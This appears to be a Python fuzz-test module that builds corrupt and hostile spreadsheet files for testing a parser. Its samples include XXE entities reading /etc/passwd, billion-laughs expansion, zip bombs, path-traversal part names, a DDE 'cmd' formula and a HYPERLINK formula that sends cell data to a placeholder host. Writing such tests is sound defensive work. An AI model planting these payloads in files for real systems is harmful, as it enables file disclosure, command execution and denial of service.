"""Workbooks that lie, explode or are none."""

import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from random import Random
from tempfile import TemporaryDirectory

from tests.peserta.lembar import JUDUL, orang, xlsx
from tests.pijar.contoh_excel import (
    NS,
    NS_ODS,
    buat_ods,
    buat_ole,
    buat_xls,
    buat_xlsx,
    sel_ods,
    teks_sel,
)

Berkas = tuple[str, bytes]
HURUF = ("A", "Z", "AA", "ALM", "XFD", "ZZZZ")
KEPALA = "".join(teks_sel(f"{h}1", j) for h, j in zip("ABCDEFGHIJ", JUDUL, strict=True))
BARIS = f'<row r="1">{KEPALA}</row>'


def lewat(buat: Callable[..., Path], *isi: object, **lain: object) -> bytes:
    with TemporaryDirectory() as folder:
        return buat(Path(folder) / "a", *isi, **lain).read_bytes()


def buku(lembar: object, **lain: object) -> bytes:
    return lewat(buat_xlsx, lembar, **lain)


def baik(r: Random) -> bytes:
    return xlsx(*[orang(n) for n in range(r.randint(1, 5))])


def ubah_zip(isi: bytes, ubah: Callable[[str, bytes], bytes], *tambah: tuple[str, bytes]) -> bytes:
    hasil = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(isi)) as lama, zipfile.ZipFile(hasil, "w", 8) as baru:
        for info in lama.infolist():
            baru.writestr(info.filename, ubah(info.filename, lama.read(info)))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # a part that stands twice
            for nama, data in tambah:
                baru.writestr(nama, data)
    return hasil.getvalue()


def ukuran_bohong(r: Random) -> Berkas:
    batas = f"A1:{r.choice(HURUF)}{r.choice((1, 1048576, 99999999))}"
    kepala = f'<worksheet xmlns="{NS}"><dimension ref="{batas}"/><sheetData>'
    return "a.xlsx", buku(BARIS, kepala=kepala)


def sel_jauh(r: Random) -> Berkas:
    letak = f"{r.choice(HURUF)}{r.choice((0, 7, 300_000, 1_048_576, 4_294_967_297))}"
    return "a.xlsx", buku(f'{BARIS}<row r="{r.choice((2, 1048576))}">{teks_sel(letak, "x")}</row>')


def bom_zip(r: Random) -> Berkas:
    isi = r.choice((b" ", b"<row/>", b"<c/>", b"\0")) * r.randint(1, 12) * (1 << 20)
    letak = r.choice(("xl/sharedStrings.xml", "xl/styles.xml", "xl/media/x.png", "x.xml"))
    return "a.xlsx", ubah_zip(baik(r), lambda _, d: d, (letak, isi))


def kamus_bohong(r: Random) -> Berkas:
    """The directory of the zip promises other sizes than the parts have."""
    isi = bytearray(baik(r))
    letak = [n for n in range(len(isi)) if isi[n : n + 4] == b"PK\x01\x02"]
    for n in r.sample(letak, k=min(3, len(letak))):
        geser = r.choice((20, 24, 28, 30, 42))
        struct.pack_into("<I", isi, n + geser, r.choice((0, 1, 0xFFFFFFFF, 1 << 30)))
    return "a.xlsx", bytes(isi)


def xml_dalam(r: Random) -> Berkas:
    dalam = r.choice((1_000, 50_000, 300_000))
    lubang = r.choice(("<r>", "<row>", "<is>", "<c>", "<si>")) * dalam
    letak = r.choice(("xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml"))
    return "a.xlsx", ubah_zip(baik(r), lambda n, d: lubang.encode() if n == letak else d)


def entitas(r: Random) -> Berkas:
    tingkat = "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "lol"}">' for n in range(r.randint(2, 12))
    )
    luar = '<!ENTITY b SYSTEM "file:///etc/passwd">'
    awal = f"<?xml version='1.0'?><!DOCTYPE x [{r.choice((tingkat, luar, tingkat + luar))}]>"
    letak = r.choice(("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"))
    akhir = b"<x>&a1;&b;</x>" if r.random() < 0.5 else b""
    return "a.xlsx", ubah_zip(
        baik(r), lambda n, d: awal.encode() + (akhir or d[d.find(b"?>") + 2 :]) if n == letak else d
    )


def lebar_sekali(r: Random) -> Berkas:
    kolom = r.choice((1_001, 5_000, 16_384))
    sel = "".join(f'<c t="n"><v>{n}</v></c>' for n in range(kolom))
    return "a.xlsx", buku(f"<row>{sel}</row>" * r.randint(1, 8))


def jutaan_kosong(r: Random) -> Berkas:
    baris = r.choice((20_000, 60_000, 150_000))
    isi = "".join(f'<row r="{n}"><c r="A{n}" s="1"/><c r="O{n}"/></row>' for n in range(2, baris))
    return "a.xlsx", buku([BARIS, isi])


def rumus(r: Random) -> Berkas:
    satu = r.choice(
        (
            '<c r="A2"><f>HYPERLINK("http://x/"&amp;A1)</f><v></v></c>',
            '<c r="A2" t="str"><f>cmd|\'/c calc\'!A0</f><v>=1+1</v></c>',
            '<c r="A2" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
            '<c r="A2" t="s"><v>99999999</v></c>',
            '<c r="A2" t="d"><v>9999-99-99T99:99:99</v></c>',
            '<c r="A2" t="b"><v>7</v></c>',
            f'<c r="A2"><v>{"9" * r.choice((20, 400, 5_000))}</v></c>',
            '<c r="A2"><v>1e999</v></c><c r="B2"><v>NaN</v></c><c r="C2"><v>-1e-999</v></c>',
        )
    )
    return "a.xlsx", buku(f'{BARIS}<row r="2">{satu}</row>')


def tak_terlihat(r: Random) -> Berkas:
    apa = r.choice(("_x0000_", "_xD800_", "\ufffe", "\u202e", "&#0;", "&#x1F;", "\x00", "\x1b"))
    return "a.xlsx", buku(
        f'{BARIS}<row r="2">{teks_sel("A2", f"Si{apa}ti" * r.randint(1, 99))}</row>'
    )


def satu_teks_berulang(r: Random) -> Berkas:
    """One shared text of 30.000 letters in every cell: a small file, gigabytes in memory."""
    banyak = r.choice((500, 5_000, 40_000))
    sel = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(2, banyak))
    bagian = {"xl/sharedStrings.xml": f'<sst xmlns="{NS}"><si><t>{"X" * 30_000}</t></si></sst>'}
    isi = buku([BARIS, sel], tambahan=bagian)
    return "a.xlsx", ubah_zip(
        isi,
        lambda n, d: (
            d.replace(
                b"</Relationships>",
                b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006'
                b'/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            )
            if n == "xl/_rels/workbook.xml.rels"
            else d
        ),
    )


def ods_berulang(r: Random) -> Berkas:
    angka = ("8000", "1048576", "4294967296", "99999999999999999999", "-1", "", "1e9", "0")
    kolom = r.choice(("1000", "16384", *angka))
    sel = sel_ods("X" * r.choice((1, 260, 5_000)), f' table:number-columns-repeated="{kolom}"')
    ulang = f' table:number-rows-repeated="{r.choice(angka)}"'
    return "a.ods", lewat(buat_ods, f"<table:table-row{ulang}>{sel}</table:table-row>")


def ods_rusak(r: Random) -> Berkas:
    isi = lewat(buat_ods, f"<table:table-row>{sel_ods('NIK') * 4}</table:table-row>")
    buruk = r.choice(
        (
            b"<table:table-row table:number-rows-repeated='x'/>",
            b"</table:table>" * 9,
            b"<table:table-row-group>" * 5_000,
            f"<office:x{NS_ODS}/>".encode(),
            b"&lol;",
        )
    )
    awal = b"<table:table-row>"
    return "a.ods", ubah_zip(isi, lambda _, d: d.replace(awal, buruk, 1))


def gabungan(r: Random) -> Berkas:
    banyak = r.choice((1, 1_000, 60_000))
    sel = "".join(f'<mergeCell ref="A{n + 1}:J{n + r.randint(1, 900)}"/>' for n in range(banyak))
    sel += r.choice(("", '<mergeCell ref="A1:XFD1048576"/>', '<mergeCell ref="B9:A1"/>'))
    kaki = f"</sheetData><mergeCells>{sel}</mergeCells><sheetData>"
    return "a.xlsx", buku(f'{BARIS}<row r="2">{teks_sel("A2", "x")}</row>{kaki}')


def banyak_lembar(r: Random) -> Berkas:
    return "a.xlsx", buku({f"L{n}": BARIS for n in range(r.choice((101, 300, 900)))})


def nama_lembar(r: Random) -> Berkas:
    nama = r.choice(("", "x" * 20_000, "../../etc", "&#0;", "A&amp;B", "Petunjuk", "\u202e", "'"))
    return "a.xlsx", buku({nama: BARIS, "Data": BARIS})


def nama_bagian(r: Random) -> Berkas:
    tambah = [
        ("../../../tmp/x.xml", b"<a/>"),
        ("xl/worksheets/sheet1.xml", b"<worksheet/>"),
        ("/etc/passwd", b"x"),
        ("x" * 60_000, b"x"),
        *[(f"d/{n}", b"") for n in range(r.choice((0, 0, 20_000)))],
    ]
    return "a.xlsx", ubah_zip(baik(r), lambda _, d: d, *r.sample(tambah, k=min(4, len(tambah))))


def bendera(r: Random) -> Berkas:
    """Encrypted, or packed by a method that nobody uses."""
    isi = bytearray(baik(r))
    for n in [n for n in range(len(isi)) if isi[n : n + 4] == b"PK\x01\x02"]:
        struct.pack_into("<H", isi, n + r.choice((8, 10)), r.choice((1, 9, 12, 14, 95, 0xFFFF)))
    return "a.xlsx", bytes(isi)


def makro(r: Random) -> Berkas:
    nama = r.choice(("xl/vbaProject.bin", "xl/macrosheets/s.xml", "xl/embeddings/o.bin"))
    return r.choice(("a.xlsx", "a.xlsm")), ubah_zip(baik(r), lambda _, d: d, (nama, b"\xd0\xcf"))


def ole(r: Random) -> Berkas:
    isi = bytearray(lewat(buat_xls, [(n, n % 9, "NIK") for n in range(r.randint(1, 60))]))
    for _ in range(r.randint(1, 9)):
        struct.pack_into("<I", isi, r.randrange(0, len(isi) - 4), r.getrandbits(32))
    return r.choice(("a.xls", "a.xlsx")), bytes(isi)


def ole_besar(r: Random) -> Berkas:
    ukuran = (r.choice((65_536, 0x06FFFFFF, 0xFFFFFFFF)), r.choice((250, 256, 65_535)))
    return "a.xls", lewat(buat_xls, [(0, 0, "NIK")], ukuran=ukuran)


def ole_terkunci(r: Random) -> Berkas:
    nama = r.choice(("EncryptedPackage", "Workbook", "Book", "WordDocument", "_VBA_PROJECT"))
    return "a.xlsx", lewat(buat_ole, {nama: r.randbytes(600)})


def terpotong(r: Random) -> Berkas:
    isi = baik(r)
    return "a.xlsx", isi[: r.randrange(1, len(isi))]


def terluka(r: Random) -> Berkas:
    isi = bytearray(baik(r))
    for _ in range(r.randint(1, 40)):
        isi[r.randrange(len(isi))] = r.randrange(256)
    return "a.xlsx", bytes(isi)


def terluka_dalam(r: Random) -> Berkas:
    """Well packed, and damaged within."""

    def luka(_: str, data: bytes) -> bytes:
        if r.random() < 0.5:
            return data
        letak = r.randrange(len(data) + 1)
        return data[:letak] + r.randbytes(r.randint(0, 9)) + data[letak + r.randint(0, 40) :]

    return "a.xlsx", ubah_zip(baik(r), luka)


JENIS: dict[str, Callable[[Random], Berkas]] = {
    f.__name__: f
    for f in (
        ukuran_bohong, sel_jauh, bom_zip, kamus_bohong, xml_dalam, entitas, lebar_sekali,
        jutaan_kosong, rumus, tak_terlihat, satu_teks_berulang, ods_berulang, ods_rusak, gabungan,
        banyak_lembar, nama_lembar, nama_bagian, bendera, makro, ole, ole_besar, ole_terkunci,
        terpotong, terluka, terluka_dalam,
    )
}  # fmt: skip
